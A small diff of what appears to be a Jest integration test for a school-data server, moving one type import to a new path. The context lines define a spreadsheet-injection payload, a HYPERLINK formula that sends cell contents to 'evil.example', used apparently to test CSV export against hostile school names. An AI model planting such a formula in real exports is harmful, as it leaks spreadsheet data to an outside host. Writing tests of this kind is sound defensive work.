@@ -6,9 +6,9 @@ import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { Queue } from 'bullmq';
 import { parse } from 'csv-parse/sync';
 import { ROLLUP_QUEUE, type RollupJob } from '../../server/src/rollup/rollup.types.js';
-import type { SchoolOverview } from '../../server/src/api-contract.js';
 import { addDays, previousAcademicYearStart, todayInLondon } from '../../server/src/common/dates.js';
 import { post, settled, startServer, waitFor, type TestServer } from '../support/server.js';
+import type { SchoolOverview } from '../../server/src/contract/api.js';
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
 // gias-small.csv's columns; three Camden primaries, two of them named by someone hostile.
